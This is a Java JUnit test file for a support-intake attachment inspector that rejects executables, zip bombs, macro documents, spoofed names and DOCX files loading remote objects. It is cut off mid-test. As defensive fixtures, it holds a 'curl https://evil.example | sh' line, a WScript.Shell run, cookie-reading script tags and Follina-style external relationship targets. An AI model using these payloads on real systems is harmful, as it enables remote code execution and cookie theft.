package org.supportintake.attachments.policy;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.UncheckedIOException;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.supportintake.attachments.inspection.ArchiveEntry;
import org.supportintake.attachments.inspection.MediaTypes;
import org.supportintake.attachments.store.FileStore;
import org.supportintake.attachments.testing.RawZip;
import org.supportintake.attachments.testing.TestFiles;
import org.supportintake.attachments.testing.TestFiles.CountingStream;

class AttachmentBatchTest {

    private static final int MB = 1024 * 1024;

    @TempDir
    Path storeDir;

    private FileStore store;
    private AttachmentInspector inspector;

    @BeforeEach
    void newStore() {
        store = new FileStore(storeDir);
        inspector = new AttachmentInspector(store);
    }

    private ReceivedFile formFile(String name, String declaredType, byte[] bytes) {
        return inspector.batch(AttachmentPolicy.form()).receive(name, declaredType, new ByteArrayInputStream(bytes));
    }

    private ReceivedFile emailFile(String name, byte[] bytes) {
        return inspector.batch(AttachmentPolicy.email()).receive(name, "application/octet-stream",
                new ByteArrayInputStream(bytes));
    }

    private static AttachmentVerdict rejected(RejectionReason reason) {
        return AttachmentVerdict.rejected(reason);
    }

    private long storedFiles() throws IOException {
        try (Stream<Path> files = Files.walk(storeDir)) {
            return files.filter(Files::isRegularFile).count();
        }
    }

    @Nested
    @DisplayName("accepted by content")
    class Accepted {
        @Test
        void pdfPngJpegAndDocxAreAcceptedOnTheFormAndStored() throws IOException {
            assertThat(formFile("заявление.pdf", MediaTypes.PDF, TestFiles.pdf()).inspection().detectedType())
                    .isEqualTo(MediaTypes.PDF);
            assertThat(formFile("скриншот.png", MediaTypes.PNG, TestFiles.png()).inspection().detectedType())
                    .isEqualTo(MediaTypes.PNG);
            assertThat(formFile("фото.jpg", MediaTypes.JPEG, TestFiles.jpeg()).inspection().detectedType())
                    .isEqualTo(MediaTypes.JPEG);
            ReceivedFile docx = formFile("договор.docx", MediaTypes.DOCX, TestFiles.docx());
            assertThat(docx.verdict()).isEqualTo(AttachmentVerdict.accepted());
            assertThat(docx.inspection().detectedType()).isEqualTo(MediaTypes.DOCX);
            assertThat(storedFiles()).isEqualTo(4);
        }

        @Test
        void docxIsToldApartFromZipWhereverItsContentTypesStand() {
            ReceivedFile docx = formFile("document", "", TestFiles.docx(false));
            assertThat(docx.inspection().detectedType()).isEqualTo(MediaTypes.DOCX);
            assertThat(docx.verdict()).isEqualTo(AttachmentVerdict.accepted());
        }

        @Test
        void acceptedFileIsStoredUnderItsHashWithSizeAndSha256() {
            byte[] png = TestFiles.png();
            ReceivedFile file = formFile("screen.png", "image/png", png);
            assertThat(file.inspection().size()).isEqualTo(png.length);
            assertThat(file.inspection().sha256()).matches("[0-9a-f]{64}");
            assertThat(store.pathOf(file.inspection().sha256())).exists().hasBinaryContent(png);
        }

        @Test
        void zipOfAllowedFilesIsAcceptedOnEmailWithItsEntriesListed() {
            Map<String, byte[]> entries = new LinkedHashMap<>();
            entries.put("скан паспорта.pdf", TestFiles.pdf());
            entries.put("фото.png", TestFiles.png());
            entries.put("договор.docx", TestFiles.docx());
            ReceivedFile zip = emailFile("документы.zip", TestFiles.zip(entries, Charset.forName("IBM866")));

            assertThat(zip.verdict()).isEqualTo(AttachmentVerdict.accepted());
            assertThat(zip.inspection().detectedType()).isEqualTo(MediaTypes.ZIP);
            assertThat(zip.inspection().entries()).extracting(ArchiveEntry::name, ArchiveEntry::detectedType)
                    .containsExactly(
                            org.assertj.core.groups.Tuple.tuple("скан паспорта.pdf", MediaTypes.PDF),
                            org.assertj.core.groups.Tuple.tuple("фото.png", MediaTypes.PNG),
                            org.assertj.core.groups.Tuple.tuple("договор.docx", MediaTypes.DOCX));
        }

        @Test
        void zipPackedByMacFinderOrWindowsExplorerIsJudgedByTheFilesChosenNotTheFolderMetadata() {
            Map<String, byte[]> entries = new LinkedHashMap<>();
            entries.put("Документы/", new byte[0]);
            entries.put("Документы/скан паспорта.pdf", TestFiles.pdf());
            entries.put("Документы/.DS_Store", TestFiles.concat(new byte[] {0, 0, 0, 1, 'B', 'u', 'd', '1'}, new byte[2048]));
            entries.put("Документы/Thumbs.db", TestFiles.compoundFile("Catalog"));
            entries.put("__MACOSX/", new byte[0]);
            entries.put("__MACOSX/Документы/", new byte[0]);
            entries.put("__MACOSX/Документы/._скан паспорта.pdf", TestFiles.concat(new byte[] {0, 5, 0x16, 7, 0, 2, 0, 0},
                    "Mac OS X        com.apple.quarantine".getBytes(StandardCharsets.US_ASCII)));
            ReceivedFile zip = emailFile("Документы.zip", TestFiles.zip(entries));

            assertThat(zip.verdict()).isEqualTo(AttachmentVerdict.accepted());
            assertThat(zip.inspection().entries()).extracting(ArchiveEntry::name)
                    .containsExactly("Документы/скан паспорта.pdf");
        }

        @Test
        void aProgramUnderAFolderMetadataNameIsStillJudged() {
            Map<String, byte[]> entries = new LinkedHashMap<>();
            entries.put("скан.pdf", TestFiles.pdf());
            entries.put("__MACOSX/._скан.pdf", TestFiles.pe());
            assertThat(emailFile("документы.zip", TestFiles.zip(entries)).verdict())
                    .isEqualTo(rejected(RejectionReason.ARCHIVE_ENTRY_NOT_ALLOWED));
            assertThat(emailFile("документы.zip", TestFiles.zip(Map.of("скан.pdf", TestFiles.pdf(), ".DS_Store",
                    TestFiles.elf()))).verdict()).isEqualTo(rejected(RejectionReason.ARCHIVE_ENTRY_NOT_ALLOWED));
        }

        @Test
        void identicalFilesAreStoredOnce() throws IOException {
            var batch = inspector.batch(AttachmentPolicy.email());
            batch.receive("a.pdf", "", new ByteArrayInputStream(TestFiles.pdf()));
            batch.receive("b.pdf", "", new ByteArrayInputStream(TestFiles.pdf()));
            assertThat(storedFiles()).isEqualTo(1);
        }

        @Test
        void pngNamedJpgIsTakenAsAScreenshotNotATrick() {
            assertThat(formFile("screen.jpg", "image/jpeg", TestFiles.png()).verdict()).isEqualTo(AttachmentVerdict.accepted());
        }
    }

    @Nested
    @DisplayName("rejected, with nothing stored")
    class Rejected {
        @Test
        void elfExecutableNamedPdfContradictsItsName() throws IOException {
            ReceivedFile file = formFile("report.pdf", MediaTypes.PDF, TestFiles.elf());
            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.CONTENT_MISMATCH));
            assertThat(file.inspection().detectedType()).isEqualTo("application/x-executable");
            assertThat(storedFiles()).isZero();
        }

        @Test
        void windowsExecutableNamedPdfContradictsItsName() {
            assertThat(formFile("invoice.pdf", "application/pdf", TestFiles.pe()).verdict())
                    .isEqualTo(rejected(RejectionReason.CONTENT_MISMATCH));
        }

        @Test
        void executableUnderItsOwnNameIsATypeNotAllowed() {
            assertThat(formFile("setup.exe", "application/x-msdownload", TestFiles.pe()).verdict())
                    .isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
        }

        @ParameterizedTest
        @ValueSource(strings = {"Заявление.pdf.sig", "Заявление.pdf.SIG", "zayavlenie.pdf.p7s", "договор.docx.sgn",
                "letter.asc"})
        void aDetachedSignatureFileIsRefusedAsASignatureNotAsAnUnknownType(String name) {
            byte[] cms = {0x30, (byte) 0x82, 0x01, 0x00, 0x06, 0x09, 0x2a, (byte) 0x86, 0x48, (byte) 0x86, (byte) 0xf7,
                    0x0d, 0x01, 0x07, 0x02, 0x00};
            assertThat(emailFile(name, cms).verdict()).isEqualTo(rejected(RejectionReason.SIGNATURE_FILE));
        }

        @Test
        void aFileDeclaredAsASignatureIsRefusedAsOneWhateverItsName() {
            ReceivedFile file = inspector.batch(AttachmentPolicy.email()).receive("smime", "application/pkcs7-signature",
                    new ByteArrayInputStream(new byte[] {0x30, (byte) 0x82, 0x01, 0x00}));
            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.SIGNATURE_FILE));
        }

        @ParameterizedTest(name = "{0}")
        @CsvSource({
            "smime.p7m, 308006092a864886f70d010703a080",
            "заявление.pdf.p7e, 3082010006092a864886f70d010703a082",
            "smime.p7m, 30820100060b2a864886f70d0109100117a082",
            "encrypted.asc, 0d0a2d2d2d2d2d424547494e20504750204d4553534147452d2d2d2d2d0d0a"})
        void anEncryptedMailOrFileIsRefusedAsEncryptedNotAsAnUnknownTypeOrASignature(String name, String hex) {
            ReceivedFile file = emailFile(name, java.util.HexFormat.of().parseHex(hex));
            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.ENCRYPTED_FILE));
            assertThat(file.inspection().detectedType()).isIn("application/pkcs7-mime", "application/pgp-encrypted");
        }

        @Test
        void aSignedNotEncryptedP7mIsNotCalledEncrypted() {
            byte[] signedData = java.util.HexFormat.of().parseHex("308006092a864886f70d010702a080");
            assertThat(emailFile("заявление.pdf.p7m", signedData).verdict())
                    .isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
        }

        @Test
        void aSignatureNamedFileThatIsADocumentIsAcceptedAsTheDocument() {
            assertThat(emailFile("скан.sig", TestFiles.pdf()).verdict().isAccepted()).isTrue();
        }

        @Test
        void zipIsNotAllowedOnTheForm() {
            assertThat(formFile("scans.zip", "application/zip", TestFiles.zip(Map.of("a.pdf", TestFiles.pdf()))).verdict())
                    .isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
        }

        @ParameterizedTest(name = "{0}")
        @CsvSource({
            "расчёт.xlsx, application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml, "
                    + "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "слайды.pptx, application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml, "
                    + "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        })
        void spreadsheetOrPresentationIsATypeNotAllowedNotAnArchiveOfWrongFiles(String name, String mainPart, String type) {
            byte[] document = TestFiles.docx(true, mainPart, Map.of());
            ReceivedFile byEmail = emailFile(name, document);
            assertThat(byEmail.verdict()).isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
            assertThat(byEmail.inspection().detectedType()).isEqualTo(type);
            assertThat(byEmail.inspection().entries()).isEmpty();
            assertThat(formFile(name, "", document).verdict()).isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
            assertThat(formFile("отчёт.docx", MediaTypes.DOCX, document).verdict())
                    .isEqualTo(rejected(RejectionReason.CONTENT_MISMATCH));
            assertThat(emailFile("документы.zip", TestFiles.zip(Map.of(name, document))).inspection().entries())
                    .extracting(ArchiveEntry::detectedType).containsExactly(type);
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"heic", "webp", "gif", "bmp", "tiff"})
        void photoOfAnotherFormatNamedJpgIsATypeNotAllowedNotADeceit(String format) {
            byte[] photo = switch (format) {
                case "heic" -> TestFiles.concat("\0\0\0\u0018ftypheic\0\0\0\0mif1heic".getBytes(StandardCharsets.ISO_8859_1),
                        new byte[64]);
                case "webp" -> TestFiles.concat("RIFF\u001a\0\0\0WEBPVP8L\r\0\0\0/".getBytes(StandardCharsets.ISO_8859_1),
                        new byte[64]);
                default -> TestFiles.image(format);
            };
            ReceivedFile file = formFile("фото.jpg", "image/jpeg", photo);
            assertThat(file.inspection().detectedType()).startsWith("image/").isNotIn(MediaTypes.JPEG, MediaTypes.PNG);
            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
            assertThat(emailFile("фото.png", photo).verdict()).isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
        }

        @Test
        void svgNamedPngIsStillAMismatch() {
            byte[] svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                    .getBytes(StandardCharsets.UTF_8);
            assertThat(formFile("фото.png", "image/png", svg).verdict()).isEqualTo(rejected(RejectionReason.CONTENT_MISMATCH));
        }

        @Test
        void plainZipNamedDocxIsNotADocument() {
            ReceivedFile file = formFile("letter.docx", MediaTypes.DOCX, TestFiles.zip(Map.of("a.pdf", TestFiles.pdf())));
            assertThat(file.inspection().detectedType()).isEqualTo(MediaTypes.ZIP);
            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
        }

        @Test
        void zipHoldingAnExecutableIsRejected() {
            byte[] zip = TestFiles.zip(Map.of("scan.pdf", TestFiles.pdf(), "viewer.exe", TestFiles.pe()));
            assertThat(emailFile("scans.zip", zip).verdict()).isEqualTo(rejected(RejectionReason.ARCHIVE_ENTRY_NOT_ALLOWED));
        }

        @Test
        void zipBombIsCaughtWhileInflating() throws IOException {
            ReceivedFile bomb = emailFile("report.zip", TestFiles.zipBomb(300L * MB));
            assertThat(bomb.verdict()).isEqualTo(rejected(RejectionReason.ZIP_BOMB));
            assertThat(storedFiles()).isZero();
        }

        @Test
        void zipOfTooManySmallEntriesIsNamedForItsCountNotABomb() throws IOException {
            var entries = new java.util.LinkedHashMap<String, byte[]>();
            for (int i = 0; i <= 1000; i++) {
                entries.put("scan-" + i + ".pdf", TestFiles.pdf());
            }
            ReceivedFile many = emailFile("scans.zip", TestFiles.zip(entries));
            assertThat(many.verdict()).isEqualTo(rejected(RejectionReason.ARCHIVE_TOO_MANY_ENTRIES));
            assertThat(RejectionReason.ARCHIVE_TOO_MANY_ENTRIES.code()).isEqualTo("archive_too_many_entries");
            assertThat(storedFiles()).isZero();
        }

        @Test
        void encryptedZipCannotBeChecked() {
            assertThat(emailFile("passport.zip", TestFiles.encryptedZip()).verdict())
                    .isEqualTo(rejected(RejectionReason.ARCHIVE_ENCRYPTED));
        }

        @Test
        void truncatedZipIsCorrupt() {
            byte[] zip = TestFiles.zip(Map.of("a.pdf", TestFiles.pdfOfSize(50_000)));
            byte[] truncated = java.util.Arrays.copyOf(zip, zip.length / 2);
            assertThat(emailFile("a.zip", truncated).verdict()).isEqualTo(rejected(RejectionReason.ARCHIVE_CORRUPT));
        }

        @Test
        void rightToLeftOverrideNameIsSpoofedAndNeverRead() {
            CountingStream content = new CountingStream(1000);
            ReceivedFile file = inspector.batch(AttachmentPolicy.form()).receive("photo\u202Egnp.exe", "image/png", content);
            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.SPOOFED_NAME));
            assertThat(file.name()).isEqualTo("photognp.exe");
            assertThat(content.bytesRead()).isZero();
        }

        @Test
        void doubleExtensionIsSpoofed() {
            assertThat(formFile("scan.pdf.exe", "", TestFiles.pe()).verdict()).isEqualTo(rejected(RejectionReason.SPOOFED_NAME));
        }

        @Test
        void emptyFileIsRejected() {
            assertThat(formFile("empty.pdf", MediaTypes.PDF, new byte[0]).verdict()).isEqualTo(rejected(RejectionReason.EMPTY));
        }

        @Test
        void formFileOfFiveMegabytesPlusOneByteIsTooLarge() throws IOException {
            assertThat(formFile("scan.png", MediaTypes.PNG, TestFiles.pngOfSize(5 * MB)).verdict())
                    .isEqualTo(AttachmentVerdict.accepted());
            ReceivedFile tooLarge = formFile("scan2.png", MediaTypes.PNG, TestFiles.pngOfSize(5 * MB + 1));
            assertThat(tooLarge.verdict()).isEqualTo(rejected(RejectionReason.TOO_LARGE));
            assertThat(tooLarge.inspection().sha256()).isEmpty();
            assertThat(storedFiles()).isEqualTo(1);
        }

        @Test
        void elevenMegabytesOverThreeEmailAttachmentsRejectsTheOneThatCrossesTen() {
            var batch = inspector.batch(AttachmentPolicy.email());
            List<ReceivedFile> files = List.of(
                    batch.receive("a.pdf", "", new ByteArrayInputStream(TestFiles.pdfOfSize(4 * MB))),
                    batch.receive("b.pdf", "", new ByteArrayInputStream(TestFiles.pdfOfSize(4 * MB))),
                    batch.receive("c.pdf", "", new ByteArrayInputStream(TestFiles.pdfOfSize(3 * MB))));
            assertThat(files).extracting(ReceivedFile::verdict).containsExactly(AttachmentVerdict.accepted(),
                    AttachmentVerdict.accepted(), rejected(RejectionReason.TOTAL_TOO_LARGE));
        }

        @Test
        void aForwardedMessageTakesNothingFromTheCountAndTotalOfTheFilesItCarries() throws IOException {
            var batch = inspector.batch(AttachmentPolicy.email().withMaxFiles(1));
            byte[] forwarded = ("From: mfc@example.ru\r\nSubject: scan\r\nMIME-Version: 1.0\r\n\r\n"
                    + "x".repeat(7 * MB)).getBytes(StandardCharsets.US_ASCII);
            ReceivedFile carrier = batch.receiveCarrier("scan.eml", "message/rfc822", new ByteArrayInputStream(forwarded));
            ReceivedFile scan = batch.receive("scan.pdf", "", new ByteArrayInputStream(TestFiles.pdfOfSize(6 * MB)));
            assertThat(List.of(carrier, scan)).extracting(ReceivedFile::verdict)
                    .containsExactly(AttachmentVerdict.accepted(), AttachmentVerdict.accepted());
            assertThat(storedFiles()).isEqualTo(2);
            assertThat(batch.receive("more.pdf", "", new ByteArrayInputStream(TestFiles.pdf())).verdict())
                    .isEqualTo(rejected(RejectionReason.TOO_MANY_FILES));
        }

        @Test
        void aForwardedMessageIsStillHeldToTheSizeOfOneFile() {
            byte[] forwarded = ("From: mfc@example.ru\r\nSubject: scan\r\n\r\n" + "x".repeat(10 * MB))
                    .getBytes(StandardCharsets.US_ASCII);
            ReceivedFile carrier = inspector.batch(AttachmentPolicy.email())
                    .receiveCarrier("scan.eml", "message/rfc822", new ByteArrayInputStream(forwarded));
            assertThat(carrier.verdict()).isEqualTo(rejected(RejectionReason.TOO_LARGE));
        }

        @Test
        void sixthFormFileIsOneTooMany() {
            var batch = inspector.batch(AttachmentPolicy.form());
            for (int i = 0; i < 5; i++) {
                assertThat(batch.receive(i + ".png", "", new ByteArrayInputStream(TestFiles.png())).verdict())
                        .isEqualTo(AttachmentVerdict.accepted());
            }
            assertThat(batch.receive("6.png", "", new ByteArrayInputStream(TestFiles.png())).verdict())
                    .isEqualTo(rejected(RejectionReason.TOO_MANY_FILES));
        }
    }

    @Nested
    @DisplayName("names that run when opened, refused whatever the bytes")
    class RunnableNames {
        /** What the auditor sent: PDF magic, then a page with a script. */
        private final byte[] pdfThatIsAPage = ("%PDF-1.4\n<html><body><script>document.write(document.cookie)</script>"
                + "</body></html>\n%%EOF\n").getBytes(StandardCharsets.US_ASCII);

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"run.hta", "invoice.html", "report.exe", "scan.svg", "Invoice.HTM", "page.mhtml",
            "setup.msi", "disk.iso", "link.url", "help.chm", "run.hta.", "run.hta  ", "script.ps1", "tool.jar"})
        void pdfBytesUnderANameThatRunsAreRejectedOnTheForm(String name) throws IOException {
            ReceivedFile file = formFile(name, "text/html", pdfThatIsAPage);
            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
            assertThat(file.inspection().detectedType()).isEqualTo(MediaTypes.PDF);
            assertThat(storedFiles()).isZero();
        }

        @Test
        void realScanNamedHtaIsRejectedByEmailToo() {
            assertThat(emailFile("run.hta", TestFiles.pdf()).verdict()).isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
            assertThat(emailFile("фото.svg", TestFiles.png()).verdict()).isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
        }

        @Test
        void zipOfScansHoldingAScanNamedHtaIsRejected() {
            byte[] zip = TestFiles.zip(Map.of("скан.pdf", TestFiles.pdf(), "папка\\run.hta", TestFiles.pdf()));
            assertThat(emailFile("сканы.zip", zip).verdict()).isEqualTo(rejected(RejectionReason.ARCHIVE_ENTRY_NOT_ALLOWED));
        }

        @Test
        void theNameThatRunsIsRefusedNotTheOddNamesCitizensProduce() {
            for (String name : List.of("скан", "СКАН.PDF", "скан.pdf.", "скан.pdf  ", "scan 2024.03.01", "договор.Pdf")) {
                assertThat(formFile(name, "", TestFiles.pdf()).verdict()).as(name).isEqualTo(AttachmentVerdict.accepted());
            }
            for (String name : List.of("скан.hta", "СКАН.HTA", "скан.hta.", "скан.hta  ")) {
                assertThat(formFile(name, "", TestFiles.pdf()).verdict()).as(name)
                        .isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
            }
        }

        @Test
        void jfifNamesJpegSoAPdfUnderItIsAMismatchAsUnderPng() {
            for (String name : List.of("фото.jpeg", "фото.jpe", "фото.JFIF", "фото.jpg")) {
                assertThat(formFile(name, MediaTypes.JPEG, TestFiles.jpeg()).verdict()).as(name)
                        .isEqualTo(AttachmentVerdict.accepted());
            }
            assertThat(formFile("скан.png", MediaTypes.PNG, TestFiles.pdf()).verdict())
                    .isEqualTo(rejected(RejectionReason.CONTENT_MISMATCH));
            assertThat(formFile("скан.jfif", "", TestFiles.pdf()).verdict())
                    .isEqualTo(rejected(RejectionReason.CONTENT_MISMATCH));
        }

        @Test
        void svgIsRefusedAsAFileButNotAsAPictureInsideAWordDocument() {
            assertThat(formFile("фото.svg", "", TestFiles.png()).verdict()).isEqualTo(rejected(RejectionReason.TYPE_NOT_ALLOWED));
            byte[] docx = TestFiles.docxWith(Map.of("word/media/image1.svg",
                    "<svg xmlns=\"http://www.w3.org/2000/svg\"/>".getBytes(StandardCharsets.UTF_8)));
            assertThat(formFile("отчёт.docx", MediaTypes.DOCX, docx).verdict()).isEqualTo(AttachmentVerdict.accepted());
        }

        @Test
        void docxHoldingADiskImageIsRejected() {
            byte[] docx = TestFiles.docxWith(Map.of("word/embeddings/setup.iso", new byte[2048]));
            assertThat(formFile("отчёт.docx", MediaTypes.DOCX, docx).verdict())
                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
        }
    }

    @Nested
    @DisplayName("risky content, decided by the bytes")
    class RiskyContent {
        @Test
        void macroDocumentRenamedToDocxIsRejected() throws IOException {
            ReceivedFile file = formFile("заявление.docx", MediaTypes.DOCX, TestFiles.docm());
            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.MACRO_DOCUMENT));
            assertThat(RejectionReason.MACRO_DOCUMENT.code()).isEqualTo("macro_document");
            assertThat(storedFiles()).isZero();
        }

        @Test
        void docxHoldingAVbaProjectIsAMacroDocumentWhateverItsContentTypesSay() {
            byte[] docx = TestFiles.docxWith(Map.of("word/vbaProject.bin", TestFiles.compoundFile("VBA")));
            assertThat(formFile("заявление.docx", MediaTypes.DOCX, docx).verdict())
                    .isEqualTo(rejected(RejectionReason.MACRO_DOCUMENT));
        }

        @Test
        void macroEnabledContentTypesAloneMakeAMacroDocumentEvenWhenTheyComeLast() {
            byte[] docm = TestFiles.docx(false, "application/vnd.ms-word.document.macroEnabled.main+xml", Map.of());
            assertThat(formFile("заявление.docx", MediaTypes.DOCX, docm).verdict())
                    .isEqualTo(rejected(RejectionReason.MACRO_DOCUMENT));
        }

        @Test
        void refusedDocumentIsNamedAsTheDocumentItsContentTypesDeclareNotAsAZip() {
            byte[] withProgram = TestFiles.docxWith(Map.of("word/embeddings/setup.exe", TestFiles.pe()));
            byte[] withVba = TestFiles.docxWith(Map.of("word/vbaProject.bin", TestFiles.compoundFile("VBA")));
            byte[] docm = TestFiles.docx(false, TestFiles.MACRO_ENABLED_MAIN_PART, Map.of());
            assertThat(formFile("договор.docx", MediaTypes.DOCX, withProgram).inspection().detectedType())
                    .isEqualTo(MediaTypes.DOCX);
            assertThat(formFile("договор.docx", MediaTypes.DOCX, withVba).inspection().detectedType())
                    .isEqualTo(MediaTypes.DOCX);
            assertThat(formFile("договор.docx", MediaTypes.DOCX, docm).inspection().detectedType())
                    .isEqualTo("application/vnd.ms-word.document.macroEnabled.12");
            assertThat(emailFile("документы.zip", TestFiles.zip(Map.of("заявление.docx", TestFiles.docm())))
                    .inspection().detectedType()).isEqualTo(MediaTypes.ZIP);
        }

        @Test
        void docmInsideAnEmailZipIsAMacroDocument() {
            ReceivedFile zip = emailFile("документы.zip", TestFiles.zip(Map.of("заявление.docx", TestFiles.docm())));
            assertThat(zip.verdict()).isEqualTo(rejected(RejectionReason.MACRO_DOCUMENT));
        }

        @Test
        void docxWithAnExecutableInItsEmbeddingsIsRejected() throws IOException {
            byte[] docx = TestFiles.docxWith(Map.of("word/embeddings/setup.exe", TestFiles.pe()));
            assertThat(formFile("договор.docx", MediaTypes.DOCX, docx).verdict())
                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
            assertThat(storedFiles()).isZero();
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"pe", "elf", "script", "package"})
        void docxHidingAProgramUnderAHarmlessNameIsRejectedByItsBytes(String kind) {
            byte[] bytes = switch (kind) {
                case "pe" -> TestFiles.pe();
                case "elf" -> TestFiles.elf();
                case "script" -> "#!/bin/sh\ncurl https://evil.example | sh\n".getBytes(StandardCharsets.UTF_8);
                default -> TestFiles.olePackage();
            };
            String part = kind.equals("package") ? "word/embeddings/oleObject1.bin" : "word/media/image1.png";
            assertThat(formFile("договор.docx", MediaTypes.DOCX, TestFiles.docxWith(Map.of(part, bytes))).verdict())
                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
        }

        @Test
        void docxWithAScriptNamedAsOneIsRejected() {
            byte[] docx = TestFiles.docxWith(Map.of("word/embeddings/run.vbs",
                    "CreateObject(\"WScript.Shell\").Run \"calc\"".getBytes(StandardCharsets.US_ASCII)));
            assertThat(formFile("договор.docx", MediaTypes.DOCX, docx).verdict())
                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
        }

        @Test
        void docxWithAnEquationEditorObjectIsRejectedWhileAMathTypeEquationPasses() {
            byte[] equation3 = equationObject(new byte[] {0x02, (byte) 0xCE, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00,
                (byte) 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46});
            // MathType's class id {0002CE03-…}: the same "Equation Native" stream, another program.
            byte[] mathType = equationObject(new byte[] {0x03, (byte) 0xCE, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00,
                (byte) 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46});
            assertThat(formFile("решение.docx", MediaTypes.DOCX,
                    TestFiles.docxWith(Map.of("word/embeddings/oleObject1.bin", equation3))).verdict())
                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
            assertThat(formFile("решение.docx", MediaTypes.DOCX,
                    TestFiles.docxWith(Map.of("word/embeddings/oleObject1.bin", mathType))).verdict())
                    .isEqualTo(AttachmentVerdict.accepted());
        }

        private static byte[] equationObject(byte[] rootClassId) {
            byte[] object = TestFiles.compoundFile("Equation Native");
            System.arraycopy(rootClassId, 0, object, 1024 + 80, rootClassId.length);
            return object;
        }

        @ParameterizedTest(name = "{0}")
        @ValueSource(strings = {"word/activeX/activeX1.xml", "word/activeX/activeX1.bin", "xl/activeX/activeX2.bin"})
        void docxWithAnActiveXControlIsRejected(String part) {
            byte[] control = part.endsWith(".bin") ? TestFiles.compoundFile("Contents")
                    : "<ax:ocx ax:classid=\"{8BD21D10-EC42-11CE-9E0D-00AA006002F3}\"/>".getBytes(StandardCharsets.UTF_8);
            assertThat(formFile("анкета.docx", MediaTypes.DOCX, TestFiles.docxWith(Map.of(part, control))).verdict())
                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
        }

        @Test
        void docxWithAnOrdinaryEmbeddedOleObjectIsAccepted() {
            byte[] docx = TestFiles.docxWith(Map.of("word/embeddings/oleObject1.bin", TestFiles.compoundFile("Workbook")));
            assertThat(formFile("отчёт.docx", MediaTypes.DOCX, docx).verdict()).isEqualTo(AttachmentVerdict.accepted());
        }

        @ParameterizedTest(name = "{0} -> {1}")
        @CsvSource({
            "word/_rels/document.xml.rels, oleObject, http://evil.example/index.html!",  // CVE-2022-30190, "Follina"
            "word/_rels/settings.xml.rels, attachedTemplate, https://evil.example/template.dotm",
            "word/_rels/webSettings.xml.rels, frame, http://evil.example/frame.docx",
            "word/_rels/document.xml.rels, subDocument, http://evil.example/part.docx",
            "word/_rels/document.xml.rels, image, \\\\203.0.113.7\\share\\logo.png",
            "word/_rels/document.xml.rels, image, file://203.0.113.7/share/logo.png",
        })
        void docxThatLoadsAnObjectFromOutsideWhenOpenedIsRejected(String part, String type, String target) throws IOException {
            byte[] docx = TestFiles.docxWith(Map.of(part, TestFiles.externalRelationship(type, target)));
            assertThat(formFile("договор.docx", MediaTypes.DOCX, docx).verdict())
                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
            assertThat(emailFile("документы.zip", TestFiles.zip(Map.of("договор.docx", docx))).verdict())
                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
            assertThat(storedFiles()).isZero();
        }

        @Test
        void docxWithALinkToAWebsiteIsAccepted() {
            byte[] docx = TestFiles.docxWith(Map.of("word/_rels/document.xml.rels",
                    TestFiles.externalRelationship("hyperlink", "https://www.gosuslugi.ru/help")));
            assertThat(formFile("договор.docx", MediaTypes.DOCX, docx).verdict()).isEqualTo(AttachmentVerdict.accepted());
        }

        @Test
        void docxInAnEmailZipWithAProgramInsideIsRejectedAsAWhole() {
            byte[] docx = TestFiles.docxWith(Map.of("word/embeddings/a.bin", TestFiles.pe()));
            assertThat(emailFile("документы.zip", TestFiles.zip(Map.of("договор.docx", docx))).verdict())
                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
        }

        @Test
        void zipEntryWhoseNameNoFileSystemHoldsIsRejectedWhileALongCyrillicNameIsNot() {
            String longest = "Заявление о предоставлении государственной услуги ".repeat(6).substring(0, 251) + ".pdf";
